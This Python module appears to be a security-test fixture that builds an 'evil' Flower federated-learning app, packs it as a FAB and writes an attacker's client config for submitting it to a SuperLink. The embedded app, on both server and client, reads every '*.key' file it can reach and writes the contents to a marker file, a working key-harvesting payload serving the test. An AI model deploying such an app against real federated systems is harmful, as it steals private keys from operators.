"""The attacker's app: a real Flower app. Both halves leave a marker and whatever they can read of a project's keys."""

from __future__ import annotations

import warnings
from pathlib import Path

from flwr.cli.build import build_fab_from_disk

_CODE = """
import os
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

MARKER, KEYS = Path({marker!r}), Path({keys!r})


def loot(half):
    found = [half, f"uid {{os.getuid()}}"]
    for path in sorted(KEYS.glob("*.key")) if KEYS.is_dir() else []:
        try:
            found.append(path.read_text())
        except OSError as error:
            found.append(str(error))
    with MARKER.open("a") as file:
        file.write("\\n".join(found) + "\\n")


client = ClientApp()
server = ServerApp()


@client.query()
def answer(message, context):
    loot("client")
    return Message(RecordDict({{"loot": ConfigRecord({{"who": "client"}})}}), reply_to=message)


@server.main()
def main(grid, context):
    loot("server")
    nodes = list(grid.get_node_ids())
    grid.push_messages([Message(RecordDict(), dst_node_id=one, message_type="query") for one in nodes])
"""
_PROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "evil"
version = "1.0.0"
description = "Runs wherever it is let in."
license = "Apache-2.0"
dependencies = []

[tool.flwr.app]
publisher = "nobody"

[tool.flwr.app.components]
serverapp = "evil_app:server"
clientapp = "evil_app:client"
"""


def write_evil_app(folder: Path, marker: Path, keys: Path) -> Path:
    """Write the app's folder, in the form that `flwr run` takes."""
    folder.mkdir()
    (folder / "pyproject.toml").write_text(_PROJECT)
    (folder / "evil_app.py").write_text(_CODE.format(marker=str(marker), keys=str(keys)))
    return folder


def packed(folder: Path) -> bytes:
    """The app's folder as a FAB, in the form that `flwr run` uploads."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # Flower's own warning
        app: bytes = build_fab_from_disk(folder)
        return app


def write_flower_home(folder: Path, address: str, certificate: Path | None) -> Path:
    """Write the `FLWR_HOME` of an attacker who has a SuperLink's address and, if it has one, its public certificate."""
    folder.mkdir()
    how = "insecure = true" if certificate is None else f'root-certificates = "{certificate}"'
    (folder / "config.toml").write_text(
        f'[superlink]\ndefault = "there"\n\n[superlink.there]\naddress = "{address}"\n{how}\n'
    )
    return folder
